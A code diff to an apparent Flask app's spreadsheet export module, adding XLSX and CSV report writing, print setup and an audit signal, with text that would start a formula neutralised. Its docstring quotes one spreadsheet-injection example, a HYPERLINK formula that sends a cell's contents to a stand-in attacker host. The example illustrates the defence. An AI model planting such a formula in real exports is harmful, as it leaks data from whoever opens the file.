@@ -1,4 +1,5 @@
-"""What every spreadsheet export does to the text it writes.
+"""What every spreadsheet export does: report tables written as XLSX (openpyxl) or CSV (UTF-8 with BOM, as Excel
+expects), with the text that would start a formula neutralised.
 
 A cell whose text starts with = + - @ (or a tab or carriage return) is read by Excel, LibreOffice and
 WPS as a formula: a leave reason like `=HYPERLINK("http://evil.example/?"&B2,"详情")` would run in the
@@ -8,7 +9,25 @@ numbers and dates, not text, so they keep their type and are never touched.
 """
 from __future__ import annotations
 
+import csv
+import io
+from dataclasses import dataclass, field
+from datetime import date, datetime
+from decimal import Decimal
+
+from blinker import Namespace
+from flask import Response, current_app, request, send_file
+from openpyxl import Workbook
+from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.utils import get_column_letter
+
+from lecturehub.core.timeutil import to_local
+
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+_signals = Namespace()
+# Sent with path, filename and rows each time a table is downloaded; the audit log listens (core knows no audit).
+table_exported = _signals.signal("table-exported")
 
 
 def neutralise_formula(value):
@@ -16,3 +35,138 @@ def neutralise_formula(value):
     if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
         return "'" + value
     return value
+
+
+FORMATS = {"xlsx", "csv"}
+
+
+@dataclass
+class Column:
+    header: str
+    kind: str = "text"  # text | int | number | percent | date | datetime
+
+
+@dataclass
+class Table:
+    title: str
+    columns: list[Column]
+    rows: list[list] = field(default_factory=list)
+    # Printed at the top of every page of the XLSX (which report, which lecture or venue); the title if empty.
+    heading: str = ""
+
+
+def _excel_value(value, kind: str):
+    if value is None:
+        return None
+    if kind == "datetime" and isinstance(value, datetime):
+        return to_local(value).replace(tzinfo=None)  # Excel has no time zones: local wall-clock time
+    if kind == "date" and isinstance(value, datetime):
+        return to_local(value).date()
+    if kind == "percent" and isinstance(value, (int, float, Decimal)):
+        return float(value) / 100
+    if isinstance(value, Decimal):
+        return float(value)
+    return value
+
+
+NUMBER_FORMATS = {"datetime": "yyyy-mm-dd hh:mm", "date": "yyyy-mm-dd", "percent": "0.0%", "number": "0.0",
+                  "int": "0"}
+
+
+def to_xlsx(table: Table) -> bytes:
+    """One sheet: bold frozen header row, widths fitted to the content, dates as real dates."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = table.title[:31] or "Sheet1"
+    sheet.append([neutralise_formula(c.header) for c in table.columns])
+    for row in table.rows:
+        sheet.append([neutralise_formula(_excel_value(v, c.kind)) for v, c in zip(row, table.columns, strict=True)])
+    header_fill = PatternFill("solid", fgColor="F3EEEB")
+    for cell in sheet[1]:
+        cell.font = Font(bold=True)
+        cell.fill = header_fill
+        cell.alignment = Alignment(vertical="center", wrap_text=True)  # full lecture titles, wrapped
+    sheet.freeze_panes = "A2"
+    for index, column in enumerate(table.columns, start=1):
+        letter = get_column_letter(index)
+        if column.kind in NUMBER_FORMATS:
+            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
+                cell.number_format = NUMBER_FORMATS[column.kind]
+        width = max([_display_width(column.header)] + [_display_width(_text(r[index - 1], column.kind))
+                                                       for r in table.rows[:500]])
+        sheet.column_dimensions[letter].width = min(max(width + 2, 8), 60)
+    set_up_printing(sheet, table)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+# Wider than this (in Excel's character widths) and a sheet prints across an A4 page (landscape).
+PORTRAIT_MAX_WIDTH = 70  # A4 portrait between default margins holds about 70 character widths
+
+
+def set_up_printing(sheet, table: Table) -> None:
+    """Print setup for a report sheet, so it comes out of Excel, WPS or LibreOffice ready to file: A4, as wide as
+    the page (landscape when the columns are wide), the header row repeated on every page, the report named at
+    the top of each page and the pages numbered at the foot."""
+    total_width = sum(sheet.column_dimensions[get_column_letter(i)].width or 8
+                      for i in range(1, len(table.columns) + 1))
+    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
+    sheet.page_setup.orientation = (sheet.ORIENTATION_LANDSCAPE if total_width > PORTRAIT_MAX_WIDTH
+                                    else sheet.ORIENTATION_PORTRAIT)
+    sheet.sheet_properties.pageSetUpPr.fitToPage = True
+    sheet.page_setup.fitToWidth = 1
+    sheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
+    sheet.print_title_rows = "1:1"
+    sheet.print_options.gridLines = True
+    # "&" starts a code in Excel's header language; a literal one is written twice.
+    sheet.oddHeader.center.text = (table.heading or table.title).replace("&", "&&")
+    sheet.oddFooter.center.text = "&P / &N"
+
+
+def _display_width(text: str) -> int:
+    # CJK characters take two columns in Excel's default font.
+    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)
+
+
+def _text(value, kind: str) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, datetime):
+        local = to_local(value)
+        return local.strftime("%Y-%m-%d" if kind == "date" else "%Y-%m-%d %H:%M")
+    if isinstance(value, date):
+        return value.isoformat()
+    if kind == "percent" and isinstance(value, (int, float, Decimal)):
+        return f"{float(value):.1f}%"
+    return str(value)
+
+
+def _csv_cell(value, kind: str) -> str:
+    # In CSV everything is text, so only what the database held as text is neutralised: a negative
+    # number stays a number Excel can sum.
+    text = _text(value, kind)
+    return neutralise_formula(text) if isinstance(value, str) else text
+
+
+def to_csv(table: Table) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow([neutralise_formula(c.header) for c in table.columns])
+    for row in table.rows:
+        writer.writerow([_csv_cell(v, c.kind) for v, c in zip(row, table.columns, strict=True)])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def download(table: Table, filename_stem: str, fmt: str) -> Response:
+    """The table as an XLSX or CSV attachment; `table_exported` lets the audit log record who took it."""
+    if fmt == "xlsx":
+        data, mimetype = to_xlsx(table), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    else:
+        data, mimetype = to_csv(table), "text/csv"  # Werkzeug adds "; charset=utf-8" to text types
+    filename = f"{filename_stem}.{fmt}"
+    table_exported.send(current_app._get_current_object(), path=request.full_path.rstrip("?"), filename=filename,
+                        rows=len(table.rows))
+    response = send_file(io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=filename)
+    response.headers["Cache-Control"] = "no-store"
+    return response
